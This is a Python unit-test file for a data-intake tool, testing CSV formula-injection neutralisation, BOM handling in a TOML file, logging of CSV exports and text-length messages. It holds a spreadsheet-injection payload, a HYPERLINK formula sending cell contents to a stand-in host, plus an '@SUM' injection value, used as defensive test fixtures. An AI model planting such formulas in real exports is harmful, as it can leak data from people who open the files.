"""Issue 30 item 7, each small leak as a test at the mechanism that failed: `prepare` wrote a raw
`=HYPERLINK(...)` participant id as it was; official-context CSVs were neither neutralised nor
logged; a UTF-8 BOM in dataset.toml gave a cryptic message."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from insight.core.formula import neutralise, neutralise_array
from insight.core.selection import Selection
from insight.intake import prepare
from insight.intake.load import load_dataset
from insight.intake.meta import read_meta
from insight.sharing import store
from insight.sharing.access import Principal
from tests.unit import _datasets as ds

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Click")'


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(alphabet="=+-@\t\r0123456789.,%abc' ", max_size=8))))
def test_the_arrow_neutraliser_agrees_with_the_cell_one(values: list[str | None]) -> None:
    assert neutralise_array(pa.array(values, pa.string())).to_pylist() == [
        neutralise(v) for v in values
    ]


def test_prepare_writes_no_formula(tmp_path: Path) -> None:
    raw_path = tmp_path / "extract.csv"
    with raw_path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(
            ["Client Ref", "Local Authority", "Start Date", "Status", "Age", "Gender"]
            + ["Ethnic group", "Disability"]
        )
        rest = ["Active", "27", "F", "White British", "N"]
        writer.writerow([HYPERLINK, "Sandwell", "01/07/2024", *rest])
        writer.writerow(["@SUM(1+1)", "Walsall", "01/08/2024", *rest])
        writer.writerow(["-7", "Walsall", "01/08/2024", *rest])
    raw = prepare.read_raw(raw_path)
    result = prepare.prepare(raw, prepare.suggest_recipe(raw))
    assert result.ok, result.text()
    written = prepare.write_output(result, tmp_path / "out")
    with written.open(encoding="utf-8") as handle:
        ids = [row["participant_id"] for row in csv.DictReader(handle)]
    assert ids == ["'" + HYPERLINK, "'@SUM(1+1)", "-7"]


def test_a_byte_order_mark_in_dataset_toml_is_read_past(tmp_path: Path) -> None:
    folder = ds.write(tmp_path)
    text = (folder / "dataset.toml").read_text(encoding="utf-8")
    (folder / "dataset.toml").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    meta, problems = read_meta(folder)
    assert problems == [] and meta is not None
    assert meta.provider_name == "Test Employment Partnership"


def test_official_context_csv_is_neutralised_and_logged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from components import access
    from components import place as draw
    from insight.service.view import page_view

    frame = pd.DataFrame({"Indicator": [HYPERLINK, "Claimant rate"], "Value": ["-1.5", "3%"]})
    data = draw.official_csv(frame)
    lines = data.decode("utf-8").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2] == "Claimant rate,3%"
    assert "-1.5" in lines[1]  # a number stays a number

    loaded = load_dataset(ds.write(tmp_path))
    view = page_view(loaded, Selection())
    person = Principal("analyst@example.org", "data_manager", True)
    monkeypatch.setattr(access, "current", lambda: person)
    make = draw._logged_csv(frame, view, view.selection, "la", "official_context_la.csv")
    assert store.list_log() == []  # nothing is logged until the file is made
    made = make()
    (entry,) = store.list_log()
    assert entry.kind == "csv" and entry.file_name == "official_context_la.csv"
    assert entry.sha256 == hashlib.sha256(made).hexdigest() and made == data
    assert entry.owner == "analyst@example.org"


def test_text_over_its_limit_is_named_with_its_length() -> None:
    from components.text import too_long

    assert too_long("The note", "x" * 20, 20) is None
    message = too_long("The note", "x" * 21, 20, "the pack was not built")
    assert message is not None
    assert message.startswith("The note is 21 characters, more than the 20 it may have")
    assert "the pack was not built" in message and "still in the box" in message
